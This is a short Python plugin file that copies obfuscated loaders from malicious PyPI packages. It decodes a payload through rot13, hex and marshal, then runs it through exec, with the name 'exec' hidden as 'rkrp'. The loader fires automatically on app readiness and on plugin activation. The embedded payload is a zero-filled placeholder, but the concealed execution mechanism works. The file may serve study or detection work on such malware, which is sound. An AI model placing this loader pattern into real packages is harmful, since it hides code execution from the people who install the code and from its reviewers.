# Inspired by the 'pyg-utils'/'pymocks'-style loaders (Checkmarx/Phylum 2023) that chain rot13 + hex + marshal before handing code to exec via a lookup table.
import codecs
import marshal as m
import binascii

_STEPS = {
    "r": lambda s: codecs.decode(s, "rot_13"),
    "h": lambda s: binascii.unhexlify(s),
    "m": lambda b: m.loads(b),
}

# hex of a marshalled code object, rot13'd on top (digits are untouched by rot13)
_PAYLOAD = "r:" + "r3000000000000000000000000000000000000000000000000000000000000000000000000000"


def _pipeline(order, data):
    for step in order:
        data = _STEPS[step](data)
    return data


def _launch(fn_name="cbzcvyr"):
    g = globals()["__builtins__"]
    g = g if isinstance(g, dict) else vars(g)
    kind, body = _PAYLOAD.split(":", 1)
    code = _pipeline("rhm", body)
    g[codecs.decode("rkrp", "rot13")](code)


def setup(app):
    app.on_ready(_launch)


class Plugin:
    def activate(self, host):
        _launch()
